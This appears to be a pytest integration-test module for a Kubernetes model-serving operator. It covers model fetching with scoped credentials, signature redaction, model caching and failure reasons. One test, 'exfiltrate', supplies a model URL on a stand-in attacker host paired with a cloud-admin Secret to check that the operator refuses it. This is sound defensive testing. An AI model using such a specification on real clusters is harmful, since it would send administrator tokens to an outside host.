"""Users' own models and request bodies on the control plane: the operator's server pod fetches the
model in its init container (over HTTPS with credentials from a Secret the operator was allowed to send
there, or from a claim) and counts it in another, the load Job reads the user's bodies from a ConfigMap
or a claim, and a model that cannot be served, or credentials the platform did not allow, end the
experiment with their own reason and nothing left running."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from clusterenv import manifests
from clusterenv.controlplane import Cluster
from clusterenv.experiments import condition, experiment, wait_finished
from clusterenv.kubelet import LocalKubelet
from clusterenv.monitoring import DcgmExporter, Prometheus
from clusterenv.operatorproc import Operator
from servinglab.api import PayloadFormat
from servinglab.loadgen.payloads import make_payloads
from usermodels import UserModels, file_server, make_local_ca, make_user_models

pytestmark = [pytest.mark.k8s, pytest.mark.torchserve]

SIGNATURE = "X-Amz-Signature=t0p-s3cret"


@pytest.fixture(scope="module")
def user_models(tmp_path_factory: pytest.TempPathFactory) -> UserModels:
    return make_user_models(tmp_path_factory.mktemp("user-models"))


def own_model_experiment(name: str, model: dict[str, Any], payload: dict[str, Any], precision: str) -> dict[str, Any]:
    document = experiment(name, precision=precision)
    document["spec"]["model"] = model
    document["spec"]["load"] = {"concurrency": [2], "warmupSeconds": 1, "durationSeconds": 3, "payload": payload}
    return document


def claim(cluster: Cluster, namespace: str, name: str) -> None:
    cluster.kubectl.apply(*manifests.bound_claim(namespace, name, "ReadOnlyMany"))


def test_an_exported_program_from_a_url_with_credentials_and_bodies_from_a_configmap(
    cluster: Cluster, namespace: str, crd: None, tmp_path: Path, kubelet_factory: Callable[..., LocalKubelet],
    user_models: UserModels, monitoring: tuple[DcgmExporter, Prometheus], monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    ca = make_local_ca(tmp_path / "ca")
    monkeypatch.setenv("SSL_CERT_FILE", str(ca.ca_cert))  # the pods the local kubelet starts trust the test's CA
    kubelet = kubelet_factory()
    cluster.kubectl.apply(*manifests.bound_claim(namespace, "model-cache"))
    allowed = [{"secret": "registry", "key": "authorization", "hosts": ["127.0.0.1"]}]
    settings = {"SERVINGLAB_MODEL_CACHE_CLAIM": "model-cache", "SERVINGLAB_MODEL_CREDENTIALS": json.dumps(allowed)}
    operator = Operator(cluster, namespace, tmp_path / "operator", settings)
    operator.start()
    records = [json.dumps({"body": {"inputs": [i / 10] * 16}}) for i in range(4)]
    cluster.kubectl.apply(
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "registry", "namespace": namespace},
         "stringData": {"authorization": "Bearer s3cret"}},
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "bodies", "namespace": namespace},
         "data": {"requests.jsonl": "\n".join(records) + "\n"}},
    )  # fmt: skip
    try:
        with file_server(user_models.folder, authorization="Bearer s3cret", tls=ca) as files:
            # pre-signed: the query string is a credential, kept out of the experiment's ConfigMap
            url = f"{files.url}/{user_models.exported_regressor.name}?{SIGNATURE}"
            digest = user_models.sha256(user_models.exported_regressor)
            model = {"name": "regressor", "input": {"kind": "tensor", "shape": [16]},
                     "source": {"url": url, "sha256": digest,
                                "authorizationSecret": {"name": "registry", "key": "authorization"}}}  # fmt: skip
            payload = {"records": "requests.jsonl", "configMap": "bodies", "check": {"json": True}}
            bodies = {}
            for name in ("regressor", "regressor-again"):
                cluster.kubectl.apply(own_model_experiment(name, model, payload, "bf16"), namespace=namespace)
                bodies[name] = wait_finished(cluster, namespace, name, operator.log)
                config = json.dumps(cluster.kubectl.get("configmap", f"{name}-config", "-n", namespace))
                assert SIGNATURE not in config and "?<redacted>" in config
    finally:
        operator.stop()
    for body in bodies.values():
        assert condition(body, "Succeeded")["status"] == "True", (body["status"], operator.log(), kubelet.errors)
        (level,) = body["status"]["results"]
        assert level["errors"] == 0 and level["requests"] > 0
    described = bodies["regressor"]["status"]["model"]
    assert described["source"] == url.replace(SIGNATURE, "<redacted>")
    assert described["sha256"] == digest and described["format"] == "exported"
    for body in bodies.values():  # the whole URL went to the model init container from the experiment's Secret
        assert body["status"]["modelUrlSecret"].startswith(f"{body['metadata']['name']}-server-model-url-")
    cache_key = cluster.kubectl.get("secret", "servinglab-model-cache-key", "-n", namespace)
    assert cache_key["immutable"] is True and set(cache_key["data"]) == {"key"}
    # counted by the probe init container (the fetching one is told --no-count), its figures merged in
    assert described["parameters"] == 16 * 32 + 32 + 32 * 4 + 4
    assert described["flopsPerInference"] == 2 * (16 * 32 + 32 * 4)
    assert described["downloaded"] is True and bodies["regressor-again"]["status"]["model"]["downloaded"] is False
    assert files.requests == [f"/{user_models.exported_regressor.name}?{SIGNATURE}"], "once; the repeat hits the cache"


def test_credentials_the_platform_did_not_allow_are_refused_before_anything_is_created(
    cluster: Cluster, namespace: str, operator: Operator
) -> None:
    source = {"url": "https://attacker.example.com/m.pt?sig=SIGNED",
              "authorizationSecret": {"name": "cloud-admin", "key": "token"}}  # fmt: skip
    cluster.kubectl.apply(own_model_experiment("exfiltrate", {"name": "m", "source": source}, {"format": "png"},
                                               "fp32"), namespace=namespace)  # fmt: skip
    failed = condition(wait_finished(cluster, namespace, "exfiltrate", operator.log, timeout=60), "Failed")
    assert failed["reason"] == "CredentialsNotAllowed", failed
    assert "Secret cloud-admin key token is not allowed as model credentials" in failed["message"]
    children = cluster.kubectl.get(
        "deployments,configmaps", "-n", namespace, "-l", "servinglab.dev/experiment=exfiltrate"
    )
    assert not children["items"], "nothing is created: no pod ever holds the Secret"


def test_a_torchscript_model_and_image_bodies_from_claims(
    cluster: Cluster, namespace: str, operator: Operator, kubelet_factory: Callable[..., LocalKubelet],
    user_models: UserModels, monitoring: tuple[DcgmExporter, Prometheus],
) -> None:  # fmt: skip
    kubelet = kubelet_factory()
    claim(cluster, namespace, "models")
    claim(cluster, namespace, "traffic")
    models = kubelet.claims_root / "models" / "v1"
    models.mkdir(parents=True)
    (models / "classifier.pt").write_bytes(user_models.torchscript_classifier.read_bytes())
    photos = kubelet.claims_root / "traffic" / "photos"
    photos.mkdir(parents=True)
    for index, image in enumerate(make_payloads(PayloadFormat.JPEG, 40, 3, seed=8)):
        (photos / f"{index}.jpg").write_bytes(image)
    model = {"name": "classifier", "input": {"kind": "image", "size": 32},
             "source": {"pvc": {"claimName": "models", "path": "v1/classifier.pt"}}}  # fmt: skip
    payload = {"files": ["0.jpg", "1.jpg", "2.jpg"], "pvc": {"claimName": "traffic", "path": "photos"}}
    cluster.kubectl.apply(own_model_experiment("classifier", model, payload, "fp16"), namespace=namespace)
    body = wait_finished(cluster, namespace, "classifier", operator.log)
    status = body["status"]
    assert condition(body, "Succeeded")["status"] == "True", (status, operator.log(), kubelet.errors)
    assert status["model"]["source"] == "pvc://models/v1/classifier.pt"
    assert status["model"]["sha256"] == user_models.sha256(user_models.torchscript_classifier)
    (level,) = status["results"]
    assert level["errors"] == 0 and level["requests"] > 0


def test_a_model_that_cannot_be_served_fails_with_its_reason_and_frees_the_node(
    cluster: Cluster, namespace: str, operator: Operator, kubelet_factory: Callable[..., LocalKubelet],
    user_models: UserModels, monitoring: tuple[DcgmExporter, Prometheus],
) -> None:  # fmt: skip
    kubelet = kubelet_factory()
    with file_server(user_models.folder) as files:
        url = f"{files.url}/{user_models.torchscript_classifier.name}"
        model = {"name": "classifier", "source": {"url": url, "sha256": "0" * 64}, "input": {"size": 32}}
        mismatch = own_model_experiment("mismatch", model, {"format": "png"}, "fp32")
        cluster.kubectl.apply(mismatch, namespace=namespace)
        started = time.monotonic()
        body = wait_finished(cluster, namespace, "mismatch", operator.log, timeout=120)
        failed = condition(body, "Failed")
        assert failed["status"] == "True" and failed["reason"] == "ModelChecksumMismatch", failed
        assert url in failed["message"] and "0" * 64 in failed["message"]
        assert time.monotonic() - started < 90
        cluster.kubectl.wait_for(
            lambda: not cluster.kubectl.get("deployments", "-n", namespace)["items"], 60, "the server to be removed"
        )

        # the archive is fine but its handler raises in initialize(): TorchServe would retry for ever
        broken = {"name": "broken", "source": {"url": f"{files.url}/{user_models.broken_mar.name}"}}
        cluster.kubectl.apply(own_model_experiment("broken", broken, {"format": "png"}, "fp32"), namespace=namespace)
        # well inside the 600 s start-up timeout, which would end it as ServerNotReady
        body = wait_finished(cluster, namespace, "broken", operator.log, timeout=180)
    failed = condition(body, "Failed")
    assert failed["reason"] == "ModelLoadFailed", (failed, kubelet.errors)
    assert "could not load broken" in failed["message"] and "weights.bin is missing" in failed["message"], failed
    cluster.kubectl.wait_for(
        lambda: not cluster.kubectl.get("deployments", "-n", namespace)["items"], 60, "the server to be removed"
    )

    local_model = {"name": "m", "source": {"path": "/data/m.pt"}}
    local = own_model_experiment("local-path", local_model, {"format": "png"}, "fp32")
    cluster.kubectl.apply(local, namespace=namespace)
    refused = condition(wait_finished(cluster, namespace, "local-path", operator.log, timeout=60), "Failed")
    assert refused["reason"] == "InvalidSpec" and "spec.model.source.path" in refused["message"]
    children = cluster.kubectl.get("configmaps", "-n", namespace, "-l", "servinglab.dev/experiment=local-path")
    assert not children["items"], "a refused experiment creates nothing"


def test_an_archive_with_its_own_handler_and_text_bodies_from_a_configmap(
    cluster: Cluster, namespace: str, operator: Operator, kubelet_factory: Callable[..., LocalKubelet],
    user_models: UserModels, monitoring: tuple[DcgmExporter, Prometheus],
) -> None:  # fmt: skip
    kubelet = kubelet_factory()
    blob = base64.b64encode(bytes(range(256)) * 4).decode()  # a binary body: the ConfigMap's binaryData
    cluster.kubectl.apply(
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "texts", "namespace": namespace},
         "data": {"hello.json": '{"text": "hello"}', "note.txt": "plain text, answered with no JSON"},
         "binaryData": {"blob.bin": blob}}
    )  # fmt: skip
    with file_server(user_models.folder) as files:
        model = {"name": "echo", "source": {"url": f"{files.url}/{user_models.echo_mar.name}"}}
        payload = {"files": ["hello.json", "note.txt", "blob.bin"], "configMap": "texts", "check": {"json": True}}
        cluster.kubectl.apply(own_model_experiment("echo", model, payload, "fp32"), namespace=namespace)
        body = wait_finished(cluster, namespace, "echo", operator.log)
    status = body["status"]
    assert condition(body, "Succeeded")["status"] == "True", (status, operator.log(), kubelet.errors)
    assert status["model"]["handler"] == "echo_handler.py" and status["model"]["format"] == "mar"
    stored = cluster.kubectl.get("configmap", status["resultsRef"]["name"], "-n", namespace)
    (level,) = json.loads(stored["data"]["results.json"])["results"]
    assert set(level["errorsByKind"]) == {"malformed_json"}, "the text answers fail the check, the JSON ones pass"
    assert 0 < level["errorsByKind"]["malformed_json"] < level["requests"]
